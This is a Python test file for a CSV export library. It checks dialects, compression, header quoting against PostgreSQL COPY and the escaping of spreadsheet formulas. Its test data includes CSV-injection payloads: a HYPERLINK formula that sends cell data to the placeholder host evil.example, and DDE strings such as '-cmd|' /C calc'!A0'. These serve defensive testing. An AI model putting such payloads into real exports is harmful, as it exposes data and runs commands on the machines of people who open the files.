"""CSV: every dialect and compression is read back; formulas are escaped."""

import csv
import gzip
import io
import re
import time
from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any

import openpyxl
import pytest
import zstandard
from django.db import connection
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from psycopg import sql

from exports.formats.base import FileColumn
from exports.formats.csv_format import Csv
from exports.request.parser import parse_export
from longshore.files import formulas
from longshore.files.csv_dialect import DELIMITERS, LINE_ENDS, Quoting
from longshore.files.formulas import escape_formula, escape_formula_sql, escape_inside_cells
from longshore.resources.columns import ColumnType
from tests.exports.nested import joined
from tests.exports.samples import COLUMNS, NASTY, exported, stored, texts
from tests.exports.spreadsheets import escaped, runs

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.usefixtures("sample")]
quick = settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
DECOMPRESSED: dict[str, Callable[[bytes], bytes]] = {
    "none": bytes,
    "gzip": gzip.decompress,
    "zstd": lambda data: zstandard.ZstdDecompressor().decompressobj().decompress(data),
}
DIALECTS = st.fixed_dictionaries(
    {},
    optional={
        "delimiter": st.sampled_from(DELIMITERS),
        "quoting": st.sampled_from(list(Quoting)),
        "bom": st.booleans(),
        "line_end": st.sampled_from(LINE_ENDS),
        "include_header": st.booleans(),
        "escape_formulas": st.booleans(),
    },
)


def read(content: bytes, dialect: dict[str, Any]) -> list[list[str]]:
    """Read the rows of a file with the standard library."""
    encoding = "utf-8-sig" if dialect.get("bom") else "utf-8"
    text = io.StringIO(content.decode(encoding), newline="")
    return list(csv.reader(text, delimiter=dialect.get("delimiter", ",")))


@quick
@given(
    records=st.lists(st.tuples(st.none() | texts, texts), max_size=5),
    dialect=DIALECTS,
    compression=st.sampled_from(sorted(DECOMPRESSED)),
)
def test_every_dialect_is_read_back(
    records: list[tuple[str | None, str]], dialect: dict[str, Any], compression: str
) -> None:
    columns = {"text": 'the, "text"', "list": "=list"}
    organization = stored(*({"text": text, "list": [member]} for text, member in records))
    file = exported(organization, "csv", compression=compression, columns=columns, **dialect)
    content = DECOMPRESSED[compression](file)

    def cell(text: str) -> str:
        if not dialect.get("escape_formulas", True):
            return text
        return escape_inside_cells(escaped(text).encode(), dialect.get("delimiter", ",")).decode()

    expected = [[cell(text or ""), cell(joined([member]))] for text, member in records]
    if dialect.get("include_header", True):
        expected.insert(0, [cell(header) for header in columns.values()])
    assert read(content, dialect) == expected
    assert content.startswith(b"\xef\xbb\xbf") == dialect.get("bom", False)

    unquoted = re.sub(rb'"(?:[^"]|"")*"', b"", content.removeprefix(b"\xef\xbb\xbf"))
    ends = re.findall(rb"\r?\n", unquoted)
    assert ends == [dialect.get("line_end", "\n").encode()] * len(expected)
    if dialect.get("quoting") == "all":
        # All cells but nulls are quoted. The header is not.
        lines = unquoted.splitlines()[1 if dialect.get("include_header", True) else 0 :]
        assert set(lines) <= {dialect.get("delimiter", ",").encode()}


def test_a_null_differs_from_an_empty_text_in_every_quoting() -> None:
    organization = stored({"text": ""}, {"text": "a", "list": []})
    for quoting, expected in (("minimal", b'"",\na,""\n'), ("all", b'"",\n"a",""\n')):
        options = {"quoting": quoting, "include_header": False, "columns": ["text", "list"]}
        assert exported(organization, "csv", **options) == expected


def test_a_file_without_header_and_rows_is_empty() -> None:
    assert exported(stored(), "csv", include_header=False) == b""


@quick
@given(
    headers=st.lists(
        st.sampled_from([text for text in NASTY if text])
        | st.text("ab,;|\t\"'\r\n\\.", min_size=1),
        min_size=1,
        max_size=4,
    ),
    delimiter=st.sampled_from(DELIMITERS),
    quoting=st.sampled_from(list(Quoting)),
)
def test_the_header_is_quoted_as_copy_quotes_it(
    headers: list[str], delimiter: str, quoting: Quoting
) -> None:
    options = {"escape_formulas": False, "delimiter": delimiter, "quoting": quoting}
    spec = parse_export({"resource": "sample", "csv_field_options": options})
    columns = [FileColumn(header, ColumnType.TEXT) for header in headers]
    query = sql.SQL("SELECT {} WHERE false").format(
        sql.SQL(", ").join(sql.SQL("1 AS {}").format(sql.Identifier(header)) for header in headers)
    )
    forced = sql.SQL(", FORCE_QUOTE *" if quoting is Quoting.ALL else "")
    statement = sql.SQL("COPY ({}) TO STDOUT (FORMAT csv, HEADER, DELIMITER {}{})").format(
        query, sql.Literal(delimiter), forced
    )
    with connection.cursor() as cursor, cursor.copy(statement) as copy:
        assert b"".join(Csv().write(columns, [], spec)) == b"".join(map(bytes, copy))


@settings(quick, max_examples=300)
@given(texts | st.text("+-=@ ()\t0123456789.,eE%", max_size=12))
def test_sql_and_python_escape_the_same_formulas(text: str) -> None:
    statement = sql.SQL("SELECT {} FROM (SELECT {}::text AS cell) AS cells")
    query = statement.format(escape_formula_sql(sql.Identifier("cell")), sql.Literal(text))
    with connection.cursor() as cursor:
        cursor.execute(query.as_string(None).replace("%", "%%"), [])
        [(cell,)] = cursor.fetchall()
    assert cell == escape_formula(text) == escaped(text)


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "@A1",
        "+A1",
        "-A1",
        "\t=1",
        "\r1",
        " =1",
        "\uff1d1",
        "+1 x12",
        "-",
        "--1",
        "+1-2",
        "+(1)",
        "+1 212 555 0100, =1",
        "-1, x",
        "-1,=1+1",
        "-$A1",
        "-USD59",
        "-US$5",
        "-$1:$3",
        "-$",
        "-$5+HYPERLINK(1)",
        "-59 ABCD",
        "-CHF 20.00(",
        "-(59.41)",
    ],
)
def test_a_formula_is_escaped(text: str) -> None:
    assert escaped(text) == f"'{text}"


@pytest.mark.parametrize(
    "text",
    [
        "-12.5",
        "+1 555 0100",
        "+44 (0)20 7946 0958",
        "-1,234.50",
        "-5%",
        "-1e-7",
        "+14155550100, +14155550101",
        "-1, 2, +3.5, 0151 2345",
        "-$59.41",
        "-$1,234.50",
        "-\u20ac59,41",
        "-59,41 \u20ac",
        "-59,41\u00a0\u20ac",
        "-CHF 20.00",
        "-20.00 CHF",
        "+\u00a31.234.567,89",
        "-1 234 567,89 \u20ac",
        "-1'234.50",
        "-12 %",
        "(59.41)",
        "($59.41)",
        "1=1",
        "a@b",
        " a",
    ],
)
def test_a_number_or_phone_number_is_not_escaped(text: str) -> None:
    assert escaped(text) == text


def test_only_cells_of_text_are_escaped() -> None:
    values = {"text": "-1-1", "integer": -5, "float": -0.5, "list": ["=a"], "json": ["@b", 1]}
    [row] = read(exported(stored(values), "csv", include_header=False), {})
    cells = {name: cell for name, cell in zip(COLUMNS, row, strict=True) if cell}
    expected = {"text": "'-1-1", "integer": "-5", "float": "-0.5", "list": "'=a"}
    assert cells == expected | {"json": "'@b, 1"}


@pytest.mark.parametrize(
    ("pattern", "expected"),
    [
        ("""'=HYPERLINK("http://x/"&A2)'""", """'=HYPERLINK("http://x/"&A2)"""),
        ("'@'yyyy", "'@2024"),
        ("' ='yyyy", "' =2024"),
        ("""x'+HYPERLINK("http://x/"&A2)'""", """'-05+HYPERLINK("http://x/"&A2)"""),
        ("'-'d", "-25"),
        ("xxx", "-05:00"),
        ("yyyy (MMM)", "2024 (Dec)"),
    ],
)
def test_a_datetime_that_looks_like_a_formula_is_escaped(pattern: str, expected: str) -> None:
    at = datetime(2024, 12, 25, 14, 30, tzinfo=UTC)
    options: dict[str, Any] = {"datetime_format": pattern, "timezone": "America/New_York"}
    content = exported(
        stored({"datetime": at}), "csv", columns=["datetime"], include_header=False, **options
    )
    assert read(content, {}) == [[expected]]
    sheet = exported(stored({"datetime": at}), "xlsx", columns=["datetime"], **options)
    [_, [cell]] = openpyxl.load_workbook(io.BytesIO(sheet)).active.values
    assert cell == expected or isinstance(cell, datetime)


FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'
PIECES = st.sampled_from(
    [
        *(*";,|\t\r\n\"' ", "\u00a0", FORMULA, "=1", "+", "-", "@SUM(1)", "-1+A1("),
        *("-cmd|' /C'!A0", "-5", "-$5.00", "+1 (212) 555-0100", "text", "- note", "\uff1d1"),
        "\uff0dA(",
    ]
)


@settings(quick, max_examples=200)
@given(
    texts=st.lists(st.lists(PIECES, max_size=6).map("".join), min_size=1, max_size=3),
    delimiter=st.sampled_from(DELIMITERS),
    quoting=st.sampled_from(list(Quoting)),
)
def test_no_cell_is_a_formula_when_read_with_another_delimiter(
    texts: list[str], delimiter: str, quoting: Quoting
) -> None:
    organization = stored(*({"text": text, "list": [text]} for text in texts))
    columns = {"integer": "n", "text": f"a{FORMULA}", "list": f"b;|{FORMULA}"}
    options = {"delimiter": delimiter, "quoting": quoting, "columns": columns}
    content = exported(organization, "csv", **options).decode()
    for other in DELIMITERS:
        # Spreadsheets differ in whether quotes inside a cell protect line ends.
        for reader in (
            csv.reader(io.StringIO(content, newline=""), delimiter=other),
            (re.split("[\r\n]", content) for _ in range(1)),
        ):
            cells = [cell for row in reader for cell in row]
            if other != delimiter:
                cells += [piece for cell in cells for piece in cell.split(other)]
                assert not [cell for cell in cells if runs(cell, delimiter)]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"a;{FORMULA}", f"a;'{FORMULA}"),
        ("a|  =1", "a|  '=1"),
        ("a\n=1", "a\n'=1"),
        ('a;"=1"', 'a;"\'=1"'),
        ("a\t-SUM(A1)", "a\t'-SUM(A1)"),
        ("a;@SUM(1)", "a;'@SUM(1)"),
        ("a;-cmd|' /C calc'!A0", "a;'-cmd|' /C calc'!A0"),
        ("a,=1", "a,=1"),
        ("list:\n- one\n- two", "list:\n- one\n- two"),
        ("a; -5; (b)", "a; -5; (b)"),
        ("x;+1 (212) 555-0100", "x;+1 (212) 555-0100"),
        ("a;=", "a;'="),
    ],
)
def test_a_formula_after_another_separator_is_escaped(text: str, expected: str) -> None:
    [row] = read(exported(stored({"text": text}), "csv", columns=["text"]), {})[1:]
    assert row == [expected]
    plain = exported(stored({"text": text}), "csv", columns=["text"], escape_formulas=False)
    assert read(plain, {})[1:] == [[text]]


@quick
@given(
    st.lists(st.sampled_from([*NASTY, *",;\t|\r\n=+@-\uff1d\uff0b\u3000\ufeff\"'!(1 a"])),
    st.sampled_from(DELIMITERS),
)
def test_only_blocks_without_a_formula_are_skipped(pieces: list[str], delimiter: str) -> None:
    text = "".join(pieces)
    expected = formulas._formula_inside_cell(delimiter).sub(r"\1'", text)
    assert escape_inside_cells(text.encode(), delimiter).decode() == expected


def test_escaping_takes_linear_time_for_repeated_separators() -> None:
    for piece in (b";-", b"|-1", b";+1 ", b"\t@", b'";', b"; ", b";-$", b"\n-"):
        rows = piece * (2_000_000 // len(piece))
        began = time.monotonic()
        escape_inside_cells(rows, ",")
        assert time.monotonic() - began < 30
